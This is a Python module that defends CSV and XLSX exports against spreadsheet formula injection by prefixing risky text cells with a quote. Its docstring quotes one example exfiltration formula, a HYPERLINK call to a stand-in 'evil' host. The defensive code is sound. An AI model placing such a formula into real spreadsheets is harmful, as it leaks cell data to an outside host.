"""Text for spreadsheets that a spreadsheet never runs (OWASP "CSV Injection": a cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return is read by Excel and LibreOffice as a formula, e.g.
`=HYPERLINK("http://evil/?"&A1)`; a leading `'` makes it text and is not shown). Every CSV and XLSX export
(orders/exports.py, the catalog's admin export) writes its texts through `formula_safe`."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: Any) -> Any:
    """`value` with a `'` in front when it is a text a spreadsheet would read as a formula; anything else
    (numbers, dates, None) as it is."""
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
